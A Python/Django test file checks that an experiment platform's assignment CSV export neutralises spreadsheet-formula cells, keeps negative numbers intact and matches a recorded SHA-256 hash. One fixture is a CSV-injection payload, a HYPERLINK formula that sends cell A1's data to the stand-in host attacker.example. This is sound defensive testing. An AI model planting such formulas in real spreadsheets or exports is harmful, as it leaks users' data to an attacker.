"""The assignment CSV, like every other export, never opens a cell as a spreadsheet formula."""

from __future__ import annotations

import csv
import hashlib
import io

from django.core.files.uploadedfile import SimpleUploadedFile

from carrefour.experiments import services
from carrefour.experiments.models import Randomization
from tests.experiments.factories import make_experiment

FORMULA = '=HYPERLINK("https://attacker.example/?leak="&A1,"Open")'


def _units() -> SimpleUploadedFile:
    rows = ["unit_id,region,age,note"]
    for i in range(40):
        note = FORMULA if i == 3 else ("@SUM(A1:A9)" if i == 4 else f"ok {i}")
        rows.append(f'{i + 1},{"north" if i % 2 else "south"},{-5 if i == 7 else 30 + i},"{note.replace(chr(34), chr(34) * 2)}"')
    return SimpleUploadedFile("units.csv", ("\n".join(rows) + "\n").encode(), content_type="text/csv")


def test_the_assignment_csv_escapes_formula_cells_and_keeps_numbers(owner, team, client):
    experiment = make_experiment(owner, team=team, register=True)
    services.randomization_run(experiment=experiment, actor=owner, units_file=_units(), seed=7)
    randomization = Randomization.objects.get(experiment=experiment)
    client.force_login(owner)
    response = client.get(f"/en/experiments/{experiment.pk}/randomize/{randomization.pk}/assignment.csv")
    body = b"".join(response.streaming_content)
    rows = {r["unit_id"]: r for r in csv.DictReader(io.StringIO(body.decode("utf-8")))}
    assert rows["4"]["note"] == "'" + FORMULA
    assert rows["5"]["note"] == "'@SUM(A1:A9)"
    assert rows["8"]["age"] == "-5"  # a negative number is a number, not a formula
    assert rows["1"]["note"] == "ok 0"
    assert {r["arm"] for r in rows.values()} == {"control", "treatment"}
    # The file downloaded is the one whose SHA-256 the randomization page shows.
    assert hashlib.sha256(body).hexdigest() == randomization.assignment_sha256
